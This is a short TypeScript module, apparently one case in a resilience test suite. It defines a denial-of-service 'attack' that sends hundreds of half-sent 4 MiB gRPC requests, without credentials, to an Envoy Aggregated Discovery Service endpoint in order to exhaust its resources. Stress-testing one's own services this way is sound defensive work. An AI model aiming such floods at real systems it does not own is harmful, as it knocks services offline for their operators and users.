import type { Attack } from '../attack.js';
import { sendHalf } from '../half-sent.js';

const CALLS = 300;

export const attack: Attack = {
  title: `${CALLS} half-sent requests of 4 MiB each on ADS streams without credentials`,
  run({ host, ports }, scale, signal) {
    const address = { host, port: ports.grpc };
    const path = '/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources';
    const half = { address, path, calls: CALLS * scale, messageBytes: 4 * 2 ** 20 };
    return sendHalf(half, this.durationMs ?? 10_000, signal);
  },
};
